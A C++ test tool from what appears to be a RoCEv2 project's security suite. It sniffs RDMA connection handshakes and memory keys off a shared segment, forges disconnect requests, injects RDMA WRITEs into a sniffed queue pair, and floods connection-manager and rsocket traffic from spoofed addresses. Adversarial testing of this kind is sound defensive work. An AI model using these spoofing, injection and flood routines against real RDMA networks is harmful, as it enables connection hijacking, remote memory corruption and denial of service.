// uroce-attacker: a third host on the same Ethernet segment, for the
// security suite's namespace tests (netns_attack_test.sh).  It reads what
// it can off the wire (a hub, or a bridge that floods) and sends RoCEv2
// frames of its own making, with valid ICRCs (lib/wire's builder).  It is
// a test tool: every frame it sends is one a real attacker could.
//
//   uroce-attacker IFACE sniff-cm MS
//       prints the last REQ and REP seen within MS milliseconds:
//       req_src= req_dst= req_mac_src= req_mac_dst= req_comm= req_qpn=
//       rep_comm= rep_qpn=
//   uroce-attacker IFACE sniff-rc MS
//       prints the last RC request with a RETH (READ or WRITE) seen:
//       rc_src= rc_dst= rc_mac_dst= rc_qpn= rc_psn= rc_va= rc_rkey= rc_len=
//   uroce-attacker IFACE dreq SRC_IP DST_IP DST_MAC LOCAL_COMM REMOTE_COMM QPN
//       one DREQ from SRC_IP (our own MAC) naming those comm IDs
//   uroce-attacker IFACE unknown-dreq DST_IP DST_MAC COUNT
//       COUNT DREQs with random comm IDs from our own address, then listens
//       a second: prints dreps=<how many DREPs came back to us>
//   uroce-attacker IFACE write SRC_IP DST_IP DST_MAC QPN PSN VA RKEY LEN
//       RDMA WRITEs ONLY of LEN bytes (0x5A) from SRC_IP to that QP, at 64
//       PSNs from PSN on (one of them is the expected one)
//   uroce-attacker IFACE mad-flood DST_IP DST_MAC COUNT
//       COUNT CM MADs (REQs for a service nobody listens on, DREQs for
//       unknown IDs), each from a new spoofed IP in 10.200.0.0/16
//   uroce-attacker IFACE rsocket-flood DST_IP DST_MAC PORT COUNT
//       COUNT datagram-rsocket rendezvous datagrams (librdmacm's UDP header,
//       op data, a random QPN; then 8 bytes udpong takes as data and does
//       not answer) to UDP PORT: the even ones from our own IP, the odd
//       ones from spoofed IPs of our /24 nobody has (.100-.199, no ARP
//       answer), each from a new source port
//
// Numbers may be decimal or 0x-hex; IPs dotted quads; MACs aa:bb:...  Exit
// 0 when it did what was asked, 1 otherwise, 2 for usage.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <optional>
#include <random>
#include <string>
#include <type_traits>
#include <vector>

#include "cm/msg.hpp"
#include "lib/wire/build.hpp"
#include "lib/wire/eth.hpp"
#include "lib/wire/ext.hpp"
#include "lib/wire/ipv4.hpp"
#include "lib/wire/mad.hpp"
#include "lib/wire/pkt.hpp"
#include "lib/wire/udp.hpp"

namespace {

using namespace uroce;
using Clock = std::chrono::steady_clock;

int g_fd = -1;
int g_ifindex = 0;
wire::MacAddr g_mac{};
uint32_t g_ip = 0;

[[noreturn]] void usage() {
  std::fprintf(stderr, "usage: see the top of tests/security/attacker.cpp\n");
  std::exit(2);
}

uint64_t num(const char* s) {
  char* end = nullptr;
  const unsigned long long v = std::strtoull(s, &end, 0);
  if (end == s || *end != '\0') usage();
  return v;
}

uint32_t ip4(const char* s) {
  in_addr a{};
  if (inet_pton(AF_INET, s, &a) != 1) usage();
  return ntohl(a.s_addr);
}

std::string ip_str(uint32_t ip) {
  char b[INET_ADDRSTRLEN];
  const in_addr a{htonl(ip)};
  inet_ntop(AF_INET, &a, b, sizeof b);
  return b;
}

wire::MacAddr mac(const char* s) {
  wire::MacAddr m{};
  unsigned v[6];
  if (std::sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) usage();
  for (int i = 0; i < 6; ++i) m[i] = static_cast<uint8_t>(v[i]);
  return m;
}

std::string mac_str(const wire::MacAddr& m) {
  char b[18];
  std::snprintf(b, sizeof b, "%02x:%02x:%02x:%02x:%02x:%02x", m[0], m[1], m[2], m[3], m[4], m[5]);
  return b;
}

bool open_iface(const char* name) {
  g_fd = ::socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (g_fd < 0) return false;
  g_ifindex = static_cast<int>(if_nametoindex(name));
  if (g_ifindex == 0) return false;
  sockaddr_ll sll{};
  sll.sll_family = AF_PACKET;
  sll.sll_protocol = htons(ETH_P_ALL);
  sll.sll_ifindex = g_ifindex;
  if (::bind(g_fd, reinterpret_cast<sockaddr*>(&sll), sizeof sll) != 0) return false;
  packet_mreq mr{};
  mr.mr_ifindex = g_ifindex;
  mr.mr_type = PACKET_MR_PROMISC;
  setsockopt(g_fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &mr, sizeof mr);
  ifreq ifr{};
  std::snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", name);
  if (ioctl(g_fd, SIOCGIFHWADDR, &ifr) == 0) std::memcpy(g_mac.data(), ifr.ifr_hwaddr.sa_data, 6);
  const int s = ::socket(AF_INET, SOCK_DGRAM, 0);
  if (s >= 0 && ioctl(s, SIOCGIFADDR, &ifr) == 0) {
    g_ip = ntohl(reinterpret_cast<sockaddr_in*>(&ifr.ifr_addr)->sin_addr.s_addr);
  }
  if (s >= 0) ::close(s);
  return true;
}

bool send_frame(const wire::PktDesc& d) {
  std::vector<uint8_t> buf(9216);
  const size_t n = wire::build(buf, d);
  if (n == 0) return false;
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = g_ifindex;
  to.sll_halen = 6;
  std::memcpy(to.sll_addr, d.eth_dst.data(), 6);
  return ::sendto(g_fd, buf.data(), n, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) == static_cast<ssize_t>(n);
}

// Receive frames for `ms` milliseconds; f(frame, PktInfo) for each RoCEv2
// one (f may return true: enough, stop listening).
template <class F>
void listen(int ms, F&& f) {
  const auto end = Clock::now() + std::chrono::milliseconds(ms);
  std::vector<uint8_t> buf(65536);
  for (;;) {
    const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(end - Clock::now()).count();
    if (left <= 0) return;
    pollfd p{g_fd, POLLIN, 0};
    if (::poll(&p, 1, static_cast<int>(left)) <= 0) continue;
    const ssize_t n = ::recv(g_fd, buf.data(), buf.size(), 0);
    if (n <= 0) continue;
    const std::span<const uint8_t> fr(buf.data(), static_cast<size_t>(n));
    const wire::PktInfo pi = wire::parse(fr);
    if (!pi.is_roce() || pi.l3 != wire::L3::IPv4) continue;
    if constexpr (std::is_same_v<decltype(f(fr, pi)), bool>) {
      if (f(fr, pi)) return;
    } else {
      f(fr, pi);
    }
  }
}

uint32_t src_ip(std::span<const uint8_t> f, const wire::PktInfo& pi) { return wire::Ipv4C(f.data() + pi.l3_off).src(); }
uint32_t dst_ip(std::span<const uint8_t> f, const wire::PktInfo& pi) { return wire::Ipv4C(f.data() + pi.l3_off).dst(); }

// A CM MAD from `src` to `dst`'s QP 1 (UD SEND, Q_Key 0x80010000).
wire::PktDesc mad_frame(uint32_t src, uint32_t dst, const wire::MacAddr& dst_mac, const cm::MadBuf& mad) {
  static thread_local cm::MadBuf keep;
  keep = mad;
  wire::PktDesc d;
  d.eth_src = g_mac;
  d.eth_dst = dst_mac;
  d.src = wire::PktDesc::ipv4_mapped(src);
  d.dst = wire::PktDesc::ipv4_mapped(dst);
  d.sport = 0xC001;
  d.opcode = wire::op::UD_SEND_ONLY;
  d.dest_qp = kQp1;
  d.psn = Psn(1);
  d.deth_qkey = kGsiQkey;
  d.deth_src_qp = kQp1;
  d.payload = keep;
  return d;
}

int sniff_cm(int ms) {
  bool req = false, rep = false;
  listen(ms, [&](std::span<const uint8_t> f, const wire::PktInfo& pi) {
    if (pi.opcode != wire::op::UD_SEND_ONLY || pi.dest_qp != kQp1 || pi.payload_len < wire::kMadSize) return false;
    const uint8_t* m = f.data() + pi.payload_off;
    const uint8_t* body = m + cm::kMadHdrSize;
    const auto attr = static_cast<wire::CmAttr>(wire::MadHdrC(m).attr_id());
    if (attr == wire::CmAttr::Req) {
      const cm::ReqViewC r(body);
      std::printf("req_src=%s req_dst=%s req_mac_src=%s req_mac_dst=%s req_comm=0x%x req_qpn=0x%x\n",
                  ip_str(src_ip(f, pi)).c_str(), ip_str(dst_ip(f, pi)).c_str(),
                  mac_str(wire::EthC(f.data()).src()).c_str(), mac_str(wire::EthC(f.data()).dst()).c_str(),
                  r.local_comm_id(), r.local_qpn());
      req = true;
    } else if (attr == wire::CmAttr::Rep) {
      const cm::RepViewC r(body);
      std::printf("rep_comm=0x%x rep_qpn=0x%x\n", r.local_comm_id(), r.local_qpn());
      rep = true;
    }
    return req && rep;  // the handshake is known: act at once
  });
  return req && rep ? 0 : 1;
}

int sniff_rc(int ms) {
  bool seen = false;
  listen(ms, [&](std::span<const uint8_t> f, const wire::PktInfo& pi) {
    if (!pi.opcode_known || !pi.op().has(wire::kHdrReth) || pi.op().transport != wire::Transport::RC) return;
    const wire::RethC r(f.data() + pi.ext_off(wire::kHdrReth));
    if (r.dma_len() == 0) return;
    std::printf("rc_src=%s rc_dst=%s rc_mac_dst=%s rc_qpn=0x%x rc_psn=0x%x rc_va=0x%llx rc_rkey=0x%x rc_len=%u\n",
                ip_str(src_ip(f, pi)).c_str(), ip_str(dst_ip(f, pi)).c_str(),
                mac_str(wire::EthC(f.data()).dst()).c_str(), pi.dest_qp.value(), pi.psn.value(),
                static_cast<unsigned long long>(r.va()), r.rkey().value(), r.dma_len());
    seen = true;
  });
  return seen ? 0 : 1;
}

int dreq(uint32_t src, uint32_t dst, const wire::MacAddr& dmac, uint32_t local, uint32_t remote, uint32_t qpn) {
  cm::DreqMsg m;
  m.local_comm_id = local;
  m.remote_comm_id = remote;
  m.remote_qpn_eecn = qpn;
  return send_frame(mad_frame(src, dst, dmac, cm::build_mad(m, 0x1234))) ? 0 : 1;
}

int unknown_dreq(uint32_t dst, const wire::MacAddr& dmac, unsigned count) {
  std::mt19937 rng(std::random_device{}());
  for (unsigned i = 0; i < count; ++i) {
    cm::DreqMsg m;
    m.local_comm_id = rng() | 1;
    m.remote_comm_id = rng() | 1;
    if (!send_frame(mad_frame(g_ip, dst, dmac, cm::build_mad(m, i)))) return 1;
  }
  unsigned dreps = 0;
  listen(1000, [&](std::span<const uint8_t> f, const wire::PktInfo& pi) {
    if (pi.opcode != wire::op::UD_SEND_ONLY || pi.payload_len < wire::kMadSize || dst_ip(f, pi) != g_ip) return;
    const auto attr = static_cast<wire::CmAttr>(wire::MadHdrC(f.data() + pi.payload_off).attr_id());
    if (attr == wire::CmAttr::Drep) ++dreps;
  });
  std::printf("dreps=%u\n", dreps);
  return 0;
}

int write(uint32_t src, uint32_t dst, const wire::MacAddr& dmac, uint32_t qpn, uint32_t psn, uint64_t va,
          uint32_t rkey, uint32_t len) {
  const std::vector<uint8_t> data(len, 0x5A);
  for (uint32_t i = 0; i < 64; ++i) {
    wire::PktDesc d;
    d.eth_src = g_mac;
    d.eth_dst = dmac;
    d.src = wire::PktDesc::ipv4_mapped(src);
    d.dst = wire::PktDesc::ipv4_mapped(dst);
    d.sport = 0xC002;
    d.opcode = wire::op::RC_WRITE_ONLY;
    d.dest_qp = Qpn(qpn);
    d.psn = Psn(psn + i);
    d.ack_req = true;
    d.reth_va = va;
    d.reth_rkey = Rkey(rkey);
    d.reth_len = len;
    d.payload = data;
    if (!send_frame(d)) return 1;
  }
  return 0;
}

int mad_flood(uint32_t dst, const wire::MacAddr& dmac, unsigned count) {
  for (unsigned i = 0; i < count; ++i) {
    const uint32_t src = 0x0AC80000 | ((i + 1) & 0xFFFF);  // 10.200.x.y
    cm::MadBuf mad;
    if (i % 2 == 0) {
      cm::ReqMsg r;
      r.local_comm_id = 0x10000 + i;
      r.service_id = 0x0000000001060000ull | (i & 0xFFFF);  // rdma_cm TCP ports nobody listens on
      r.local_ca_guid = 0xBAD0000000000000ull | i;
      r.local_qpn = 0x100 + (i & 0xFFFF);
      r.transport_service_type = 0;
      mad = cm::build_mad(r, i);
    } else {
      cm::DreqMsg m;
      m.local_comm_id = 0x20000 + i;
      m.remote_comm_id = 0x30000 + i;
      mad = cm::build_mad(m, i);
    }
    if (!send_frame(mad_frame(src, dst, dmac, mad))) return 1;
  }
  return 0;
}

int rsocket_flood(uint32_t dst, const wire::MacAddr& dmac, uint16_t port, unsigned count) {
  std::mt19937 rng(std::random_device{}());
  constexpr size_t kHdr = wire::Eth::kSize + 20 + wire::Udp::kSize;
  for (unsigned i = 0; i < count; ++i) {
    const uint32_t src = i % 2 == 0 ? g_ip : (g_ip & 0xFFFFFF00u) | (100 + (i / 2) % 100);
    std::array<uint8_t, kHdr + 16 + 8> f{};
    wire::Eth e(f.data());
    e.set_dst(dmac);
    e.set_src(g_mac);
    e.set_ethertype(0x0800);
    wire::Ipv4 ip(f.data() + wire::Eth::kSize);
    ip.set_version_ihl(5);
    ip.set_total_len(static_cast<uint16_t>(f.size() - wire::Eth::kSize));
    ip.set_ttl(64);
    ip.set_protocol(17);
    ip.set_src(src);
    ip.set_dst(dst);
    ip.update_checksum();
    wire::Udp u(f.data() + wire::Eth::kSize + 20);
    u.set_src_port(static_cast<uint16_t>(20000 + i % 40000));
    u.set_dst_port(port);
    u.set_length(static_cast<uint16_t>(wire::Udp::kSize + 16 + 8));
    u.set_checksum(0);  // none (IPv4)
    uint8_t* r = f.data() + kHdr;  // the rendezvous header: tag, version, op, length, -, QPN, IPv4
    wire::store_be<uint32_t>(r, 0x55555555);
    r[4] = 4;
    r[5] = 0;  // data
    r[6] = 16;
    wire::store_be<uint32_t>(r + 8, rng() & 0xFFFFFF);
    wire::store_be<uint32_t>(r + 12, src);
    r[16] = 2;  // udpong: msg_op_data from client 0 (counted, not answered)
    sockaddr_ll to{};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = g_ifindex;
    to.sll_halen = 6;
    std::memcpy(to.sll_addr, dmac.data(), 6);
    if (::sendto(g_fd, f.data(), f.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) !=
        static_cast<ssize_t>(f.size()))
      return 1;
    if (i % 64 == 63) usleep(500);  // paced, so that most reach the socket rather than its full buffer
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) usage();
  if (!open_iface(argv[1])) {
    std::fprintf(stderr, "uroce-attacker: %s: %s\n", argv[1], std::strerror(errno));
    return 1;
  }
  const std::string cmd = argv[2];
  char** a = argv + 3;
  const int n = argc - 3;
  if (cmd == "sniff-cm" && n == 1) return sniff_cm(static_cast<int>(num(a[0])));
  if (cmd == "sniff-rc" && n == 1) return sniff_rc(static_cast<int>(num(a[0])));
  if (cmd == "dreq" && n == 6)
    return dreq(ip4(a[0]), ip4(a[1]), mac(a[2]), static_cast<uint32_t>(num(a[3])), static_cast<uint32_t>(num(a[4])),
                static_cast<uint32_t>(num(a[5])));
  if (cmd == "unknown-dreq" && n == 3) return unknown_dreq(ip4(a[0]), mac(a[1]), static_cast<unsigned>(num(a[2])));
  if (cmd == "write" && n == 8)
    return write(ip4(a[0]), ip4(a[1]), mac(a[2]), static_cast<uint32_t>(num(a[3])), static_cast<uint32_t>(num(a[4])),
                 num(a[5]), static_cast<uint32_t>(num(a[6])), static_cast<uint32_t>(num(a[7])));
  if (cmd == "rsocket-flood" && n == 4)
    return rsocket_flood(ip4(a[0]), mac(a[1]), static_cast<uint16_t>(num(a[2])), static_cast<unsigned>(num(a[3])));
  if (cmd == "mad-flood" && n == 3) return mad_flood(ip4(a[0]), mac(a[1]), static_cast<unsigned>(num(a[2])));
  usage();
}
